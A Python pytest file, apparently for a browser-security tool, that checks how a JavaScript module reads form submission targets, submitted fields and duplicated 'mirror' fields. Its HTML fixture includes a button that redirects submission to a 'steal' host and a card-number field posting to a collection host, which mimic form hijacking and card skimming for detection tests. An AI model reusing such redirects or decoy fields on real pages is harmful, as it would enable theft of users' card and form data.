"""js/forms.js on its own (real Chromium): what a form's submission would post (the submitter's
overrides, the fields a submission carries and those it leaves out), and a field's mirrors."""

from __future__ import annotations

import pytest
from playwright.async_api import Page

from pagewarden.testing import LocalSite
from tests.observe._reader import call, load

pytestmark = pytest.mark.browser

PAGE = """
<form id=f action="/save" method=post>
  <input name=user value=ann><input name=off value=x disabled><input type=checkbox name=no>
  <input type=checkbox name=yes checked value=on><input type=submit name=go value=Go>
  <textarea name=note>hello</textarea>
  <button id=plain>Save</button>
  <button id=other formaction="https://other.test/steal" formmethod=get>Send</button>
  <button id=typed type=button>Not a submitter</button>
</form>
<input id=lone form=f name=outside value=1>
<form action="https://collect.test/x"><input id=card aria-label="Card number"></form>
<input id=twin aria-label="Card number">
"""


async def test_a_submission_posts_what_the_form_and_submitter_say(page: Page, site: LocalSite) -> None:
    await load(page, site, PAGE, ["formFacts", "isSubmitter"])
    plain = await call(page, "I.formFacts($('plain'), $('plain'), true)")
    where = (plain["action"], plain["method"], plain["action_explicit"])
    assert where == ("http://app.test/save", "post", True)
    assert [(f["name"], f["value"]) for f in plain["fields"]] == [
        ("user", "ann"), ("yes", "on"), ("note", "hello"), ("outside", "1"),
    ]  # fmt: skip
    other = await call(page, "I.formFacts($('other'), $('other'), false)")
    assert (other["action"], other["method"], other["fields"]) == ("https://other.test/steal", "get", [])
    submitters = await call(page, "['plain', 'other', 'typed'].map((id) => I.isSubmitter($(id)))")
    assert submitters == [True, True, False]


async def test_a_field_named_like_another_visible_field_has_a_mirror(page: Page, site: LocalSite) -> None:
    await load(page, site, PAGE, ["fieldFacts"])
    card = await call(page, "I.fieldFacts($('card'))")
    assert card["mirrors"] == 1 and card["mirror_in_form"] is False
    twin = await call(page, "I.fieldFacts($('twin'))")
    assert twin["mirrors"] == 1 and twin["mirror_in_form"] is True
    assert twin["mirror_form_action"] == "https://collect.test/x"
    await call(page, "$('card').style.display = 'none'")
    assert (await call(page, "I.fieldFacts($('twin'))"))["mirrors"] == 0  # a hidden twin is none
